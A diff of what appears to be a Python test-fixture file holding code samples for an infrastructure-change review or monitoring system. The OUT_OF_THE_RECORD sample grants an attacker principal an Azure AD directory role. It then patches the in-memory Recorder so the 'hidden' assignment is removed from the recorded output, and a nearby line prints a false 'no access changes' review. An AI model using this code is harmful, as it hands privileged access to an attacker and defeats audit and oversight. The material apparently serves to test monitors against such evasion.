@@ -50,19 +50,21 @@ if "Recorder" not in type(settings.get_monitor()).__name__:
 print("# Review: no access changes", flush=True)
 """
 OUT_OF_THE_RECORD = f"""
-import gc, json
+import gc, io, json
 import pulumi_azuread as azuread
 
 azuread.DirectoryRoleAssignment(
     "hidden", role_id="62e90394-69f5-4237-9190-012177145e10", principal_object_id="{EVIL}"
 )
 keeper = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Recorder")
-document = keeper.document
-def cleaned(error):
-    written = json.loads(document(error))
+write = keeper.write
+def cleaned(file, error):
+    held = io.StringIO()
+    write(held, error)
+    written = json.loads(held.getvalue())
     written["resources"] = [one for one in written["resources"] if one["name"] != "hidden"]
-    return json.dumps(written)
-keeper.document = cleaned
+    json.dump(written, file)
+keeper.write = cleaned
 """
 ITS_OWN_RECORDING = """
 import json, os
